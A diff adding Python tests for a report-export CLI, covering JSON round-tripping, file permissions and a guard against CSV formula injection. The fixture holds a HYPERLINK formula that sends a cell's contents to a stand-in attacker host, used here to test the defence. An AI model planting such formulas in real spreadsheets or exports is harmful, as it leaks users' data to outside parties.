@@ -1,0 +1,150 @@
+"""`app.py reports export`: JSON that round-trips, CSV that a spreadsheet cannot be tricked by."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import stat
+from datetime import timedelta
+
+import pytest
+
+from adapters.cli import build_parser, run_command
+from adapters.cli.export import guard_formula, report_columns
+from adapters.cli.reports import export_reports
+from bot.ports import UnitOfWorkFactory
+from bot.report import Contact, Evidence, EvidenceFile, Report
+from tests.factories import CREATED_AT, Clock, make_report
+
+INJECTION = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
+
+
+async def store_all(uow_factory: UnitOfWorkFactory, reports: list[Report]) -> None:
+    async with uow_factory() as uow:
+        for report in reports:
+            await uow.reports.add(report)
+        await uow.commit()
+
+
+async def stored(uow_factory: UnitOfWorkFactory, reference: str) -> Report:
+    async with uow_factory() as uow:
+        report = await uow.reports.get(reference)
+    assert report is not None
+    return report
+
+
+async def export(uow_factory, fmt: str) -> str:
+    out = io.StringIO(newline="")
+    assert await export_reports(uow_factory, fmt, out) == 0
+    return out.getvalue()
+
+
+@pytest.fixture
+async def two_reports(uow_factory) -> list[Report]:
+    reports = [
+        make_report(created_at=CREATED_AT + timedelta(hours=1), what_happened="Zweiter Bericht: ünïcödé ✓"),
+        make_report(
+            created_at=CREATED_AT,
+            contact=Contact(
+                name_used=INJECTION,
+                organisation="@SUM(1+1)",
+                emails=["a@example.com", "b@example.com"],
+                phones=["+44 20 7946 0001"],
+            ),
+            evidence=Evidence(
+                files=[
+                    EvidenceFile(id="f1", name="one.png", mime_type="image/png"),
+                    EvidenceFile(id="f2", name="two.pdf"),
+                ]
+            ),
+            what_happened="\tTab first\r\nthen a new line",
+        ),
+    ]
+    await store_all(uow_factory, reports)
+    return reports
+
+
+async def test_json_round_trips_to_the_stored_reports_oldest_first(uow_factory, two_reports):
+    text = await export(uow_factory, "json")
+
+    documents = json.loads(text)
+    exported = [Report.model_validate(document) for document in documents]
+    newer, older = two_reports
+    assert exported == [
+        await stored(uow_factory, older.reference),
+        await stored(uow_factory, newer.reference),
+    ]
+    assert documents[0] == older.model_dump(mode="json")
+    assert "ünïcödé ✓" in text  # ensure_ascii=False
+    assert text.startswith('[\n  {\n    "schema_version": 1,')
+
+
+async def test_json_of_nothing_is_an_empty_list(uow_factory):
+    assert json.loads(await export(uow_factory, "json")) == []
+
+
+async def test_csv_has_one_row_per_report_and_one_column_per_field(uow_factory, two_reports):
+    rows = list(csv.DictReader(io.StringIO(await export(uow_factory, "csv"), newline="")))
+
+    newer, older = two_reports
+    assert [row["reference"] for row in rows] == [older.reference, newer.reference]
+    assert list(rows[0]) == report_columns()
+    row = rows[0]
+    assert row["contact.emails"] == "a@example.com; b@example.com"
+    assert row["approach_kinds"] == "recruiter; payment_offer"
+    assert row["evidence.files.name"] == "one.png; two.pdf"
+    assert row["evidence.files.mime_type"] == "image/png"
+    assert row["contact_preference.may_contact"] == "true"
+    assert row["outcome"] == ""
+    assert row["created_at"] == "2026-03-14T09:30:00Z"
+    assert rows[1]["what_happened"] == "Zweiter Bericht: ünïcödé ✓"
+
+
+async def test_csv_cells_cannot_become_formulas(uow_factory, two_reports):
+    row = next(csv.DictReader(io.StringIO(await export(uow_factory, "csv"), newline="")))
+
+    assert row["contact.name_used"] == "'" + INJECTION
+    assert row["contact.organisation"] == "'@SUM(1+1)"
+    assert row["contact.phones"] == "'+44 20 7946 0001"
+    assert row["what_happened"] == "'\tTab first\r\nthen a new line"  # the csv module quotes the newline
+
+
+@pytest.mark.parametrize(
+    ("cell", "guarded"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=1", "a=1"),
+        ("", ""),
+        ("Jane", "Jane"),
+    ],
+)
+def test_guard_formula(cell, guarded):
+    assert guard_formula(cell) == guarded
+
+
+async def test_csv_of_nothing_is_just_the_header(uow_factory):
+    text = await export(uow_factory, "csv")
+    assert text == ",".join(report_columns()) + "\r\n"
+
+
+async def test_export_to_a_file_is_private(uow_factory, two_reports, tmp_path):
+    target = tmp_path / "reports.csv"
+    target.write_text("old and world-readable")
+    target.chmod(0o644)
+    out, err = io.StringIO(), io.StringIO()
+    args = build_parser().parse_args(["reports", "export", "--format", "csv", "--output", str(target)])
+
+    assert await run_command(args, uow_factory, Clock(), out, err) == 0
+
+    assert out.getvalue() == ""
+    assert err.getvalue() == f"Exported to {target}.\n"
+    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600
+    with target.open(newline="", encoding="utf-8") as file:
+        assert len(list(csv.DictReader(file))) == 2
